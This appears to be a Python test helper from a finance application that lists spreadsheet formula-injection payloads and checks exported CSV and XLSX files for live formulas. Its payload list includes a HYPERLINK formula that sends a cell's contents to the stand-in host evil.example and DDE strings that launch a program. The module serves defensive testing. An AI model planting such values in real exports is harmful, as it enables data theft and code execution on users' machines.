"""The class of formula-injection payloads (issue 17 item 1) and checks that a written CSV or
XLSX file holds none of them live. Shared by the security and funds tests."""

from __future__ import annotations

import csv
import io
import re
import zipfile

# What reached the treasury batch as live formulas, and the rest of the class: every leading
# character a spreadsheet program runs (or hides a formula behind), in ASCII and full width.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&C2,"点击查看")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",
    "＋1+2",
    "－1+2",
    "＠SUM(A1)",
    "-",
)
# Text that looks like a number is a number to a spreadsheet, never a formula: kept as is.
PLAIN = ("-5.00", "+8613800000000", "1234.56", "天河甲软件有限公司", "a=b", "")

_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")


def live_in_csv(text: str) -> list[str]:
    """Cells of a CSV text that a spreadsheet would run as a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
        for cell in row
        if cell.startswith(_STARTS) and not _NUMBER.fullmatch(cell)
    ]


def live_in_xlsx(content: bytes) -> list[str]:
    """Formula cells of an XLSX file (``<f>`` elements or cells of type ``str``), and text
    cells starting like a formula without Excel's quote prefix."""
    from openpyxl import load_workbook

    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                found += re.findall(r"<f>.*?</f>", xml)
                found += re.findall(r'<c [^>]*t="str"', xml)
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    found.append(str(value))
                elif (
                    isinstance(value, str)
                    and value.startswith(_STARTS)
                    and not _NUMBER.fullmatch(value)
                    and not cell.quotePrefix
                ):
                    found.append(value)
    return found
